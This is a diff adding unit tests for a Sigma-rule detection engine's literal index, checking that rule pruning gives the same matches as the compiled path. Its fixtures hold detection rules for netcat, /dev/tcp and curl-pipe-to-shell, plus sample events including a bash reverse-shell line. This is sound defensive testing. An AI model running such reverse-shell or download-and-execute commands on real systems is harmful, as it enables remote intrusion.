@@ -1,0 +1,119 @@
+"""The literal index (engine/index.py): it prunes only rules that cannot match, and matching
+through it gives what the category's compiled function gives."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from sigma.collection import SigmaCollection
+
+from hpcsec.detector.engine.evaluate import Engine
+from hpcsec.detector.engine.index import LiteralIndex, required_keys
+from hpcsec.detector.engine.ruleset import LoadedRule, RuleSet
+
+
+def rule(n: int, detection: dict[str, Any]) -> dict[str, Any]:
+    return {
+        "title": f"index {n}",
+        "id": f"00000000-0000-4000-8000-{n:012d}",
+        "logsource": {"product": "hpc", "category": "process"},
+        "detection": detection,
+    }
+
+
+def condition_of(detection: dict[str, Any]) -> Any:
+    sigma = SigmaCollection.from_dicts([rule(0, detection)]).rules[0]
+    return sigma.detection.parsed_condition[0].parse()
+
+
+def test_keys_come_from_positive_parts_only():
+    sel = {"process.name": "nc"}
+    keys = required_keys(
+        condition_of({"sel": sel, "f": {"user.name": "bob"}, "condition": "sel and not f"})
+    )
+    assert keys == {("process.name", "eq", "nc")}
+    # a rule true without any literal of its own is never pruned
+    assert required_keys(condition_of({"sel": sel, "condition": "not sel"})) is None
+    assert (
+        required_keys(
+            condition_of({"sel": sel, "k": {"process.pid|gt": 3}, "condition": "sel or k"})
+        )
+        is None
+    )
+    assert required_keys(condition_of({"k": ["evil"], "condition": "k"})) is None
+    assert (
+        required_keys(condition_of({"sel": {"process.name|cased": "NC"}, "condition": "sel"}))
+        is None
+    )
+    either = condition_of(
+        {
+            "a": {"process.name|startswith": "Py"},
+            "b": {"process.command_line|endswith": "sh"},
+            "condition": "1 of them",
+        }
+    )
+    assert required_keys(either) == {
+        ("process.name", "startswith", "py"),
+        ("process.command_line", "endswith", "sh"),
+    }
+    glob = condition_of({"sel": {"file.path": "/tmp/*/evil_?.so"}, "condition": "sel"})
+    assert required_keys(glob) == {("file.path", "contains", "/evil_")}
+
+
+def test_candidates_are_the_rules_whose_literals_the_event_shows():
+    index = LiteralIndex(
+        [
+            frozenset({("process.name", "eq", "nc")}),
+            frozenset({("process.command_line", "contains", "/dev/tcp")}),
+            frozenset({("process.command_line", "startswith", "curl")}),
+            frozenset({("process.command_line", "endswith", "| sh")}),
+        ]
+    )
+    event = {"process.name": "NC", "process.command_line": "bash -i >& /DEV/TCP/1.2.3.4/9 | sh"}
+    assert index.candidates(event) == {0, 1, 3}
+    assert index.candidates({"process.command_line": ["x", "curl -s x"]}) == {2}
+    assert index.candidates({"process.name": "ncat"}) == set()
+
+
+RULES = [
+    {
+        "sel": {"process.name": ["nc", "ncat"]},
+        "f": {"user.name": "adm"},
+        "condition": "sel and not f",
+    },
+    {"sel": {"process.args|contains": "--lua-exec"}, "condition": "sel"},
+    {"sel": {"process.pid": "5"}, "condition": "sel"},  # a string value matches the number 5
+    {"sel": {"process.command_line|contains|all": ["curl", "| sh"]}, "condition": "sel"},
+    {"sel": {"process.command_line|re": "wget .*\\|"}, "condition": "sel"},  # no key: fallback
+    {"sel": {"process.name": "nc"}, "condition": "not sel"},
+    {"sel": {"process.command_line|windash|contains": "-enc"}, "condition": "sel"},
+]
+EVENTS = [
+    {"event.category": "process", "process.name": "NC", "user.name": "alice"},
+    {"event.category": "process", "process.name": "ncat", "user.name": "adm"},
+    {"event.category": "process", "process.args": ["ncat", "--LUA-exec=x"]},
+    {"event.category": "process", "process.pid": 5},
+    {"event.category": "process", "process.command_line": "curl x | sh"},
+    {"event.category": "process", "process.command_line": "wget y | sh /enc"},
+    {"event.category": "process", "process.command_line": "ps \u2013enc aa"},
+]
+
+
+def matches(engine: Engine) -> list[list[str]]:
+    return [sorted(m.rule.id for m in engine.evaluate([e])) for e in EVENTS]
+
+
+def test_indexed_engine_matches_what_the_compiled_path_matches():
+    collection = SigmaCollection.from_dicts([rule(n, d) for n, d in enumerate(RULES)])
+    ruleset = RuleSet([LoadedRule(r, "<index>", 1, "test") for r in collection.rules])
+    indexed, plain = Engine(ruleset, index_min=1), Engine(ruleset, index_min=10**6)
+    got = matches(indexed)
+    assert got == matches(plain)
+    ids = [str(r.id) for r in collection.rules]
+    assert got[0] == [ids[0]]
+    assert got[1] == [ids[5]]  # the admin is filtered out; `not sel` fires
+    assert got[2] == [ids[1], ids[5]]
+    assert got[3] == [ids[2], ids[5]]
+    assert got[4] == [ids[3], ids[5]]
+    assert got[5] == [ids[4], ids[5], ids[6]]
+    assert got[6] == [ids[5], ids[6]]
